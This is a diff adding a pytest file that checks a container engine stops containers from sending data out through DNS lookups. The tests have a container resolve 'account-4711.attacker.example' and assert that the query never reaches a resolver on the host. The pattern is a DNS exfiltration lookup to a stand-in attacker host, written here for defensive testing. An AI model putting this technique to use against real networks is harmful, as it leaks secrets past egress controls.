@@ -1,0 +1,119 @@
+"""A container sends data out as names that it asks for: the daemon would hand them on to the host's resolvers."""
+
+import contextlib
+import socket
+import threading
+from collections.abc import Iterator
+
+import docker
+import pytest
+
+from engines.containerd.engine import DEAD_RESOLVER
+from tests.contracts.engine_acts import WAITS, Act, a_spec, ended, exits, said
+from tests.contracts.harnesses import DockerHarness
+from tests.services.own_docker import BASE, OwnDocker, enter
+
+ASKS = """
+import socket
+try:
+    print(socket.getaddrinfo({name!r}, 80)[0][4][0])
+except OSError as error:
+    print("no answer")
+"""
+SECRET = "account-4711.attacker.example"
+
+
+def asks(name: str) -> Act:
+    return Act(("python3", "-c", ASKS.format(name=name)))
+
+
+class WithResolver(OwnDocker):
+    """A daemon whose host has a resolver on its loopback, as most have: `heard` is what that was asked."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.heard: list[bytes] = []
+        self.configured = self.home / "resolv.conf"
+        self.configured.write_text("nameserver 127.0.0.1\n")
+        self._resolver: socket.socket
+        opened = threading.Event()
+        thread = threading.Thread(target=self._listen, args=(opened,), daemon=True)
+        thread.start()
+        assert opened.wait(30)
+
+    @property
+    def inside(self) -> list[str]:
+        own_file = 'mount --bind "$0" /etc/resolv.conf && exec "$@"'
+        return [*super().inside, "unshare", "--mount", "sh", "-c", own_file, str(self.configured)]
+
+    def close(self) -> None:
+        super().close()
+        self._resolver.close()
+
+    def _listen(self, opened: threading.Event) -> None:
+        enter(self.name)
+        self._resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self._resolver.bind(("127.0.0.1", 53))
+        opened.set()
+        with contextlib.suppress(OSError):
+            while question := self._resolver.recvfrom(4096):
+                self.heard.append(question[0])
+
+
+@pytest.fixture
+def own() -> Iterator[WithResolver]:
+    with contextlib.closing(WithResolver()) as daemon:
+        daemon.start()
+        daemon.load(BASE)
+        yield daemon
+
+
+def label(name: str) -> bytes:
+    return name.partition(".")[0].encode()
+
+
+@pytest.mark.docker
+@pytest.mark.own_docker
+@pytest.mark.slow
+def test_no_question_of_a_container_reaches_the_hosts_resolver(own: WithResolver) -> None:
+    harness = DockerHarness("bfia-dns")
+    engine = harness.engine(base_url=own.url)
+    spec = a_spec(harness, asks(SECRET))
+    engine.launch(spec)
+    ended(engine, spec.name)
+    assert engine.logs(spec.name).stdout == b"no answer\n"
+    assert not [question for question in own.heard if label(SECRET) in question]
+    with contextlib.closing(docker.DockerClient(own.url)) as client:  # the way is there for any other container
+        client.containers.run(
+            BASE, ["python3", "-c", ASKS.format(name="other.attacker.example")], network="bfia-dns", remove=True
+        )
+    assert [question for question in own.heard if b"other" in question]
+    engine.close()
+
+
+@pytest.mark.docker
+def test_a_name_in_the_containers_network_is_found(harness: DockerHarness, daemon: docker.DockerClient) -> None:
+    """As where the gateway is a container and its listener is advertised by its service's name."""
+    engine = harness.engine()
+    there = a_spec(harness, WAITS)
+    engine.launch(there)
+    said(engine, there.name, b"ready")
+    assert daemon.api.inspect_container(there.name)["HostConfig"]["Dns"] == [DEAD_RESOLVER]
+    found = daemon.api.inspect_container(there.name)["NetworkSettings"]["Networks"][harness.network]["IPAddress"]
+    for name, answer in ((there.name, found), (SECRET, "no answer")):
+        spec = a_spec(harness, asks(name))
+        engine.launch(spec)
+        ended(engine, spec.name)
+        assert engine.logs(spec.name).stdout.decode().strip() == answer
+
+
+@pytest.mark.docker
+def test_containers_that_may_reach_other_machines_find_their_names(
+    harness: DockerHarness, daemon: docker.DockerClient
+) -> None:
+    for engine in (harness.engine(network_mode="host"), harness.engine(outside=True)):
+        spec = a_spec(harness, exits(0))
+        engine.launch(spec)
+        assert not daemon.api.inspect_container(spec.name)["HostConfig"]["Dns"]
+        ended(engine, spec.name)
+        engine.remove(spec.name)
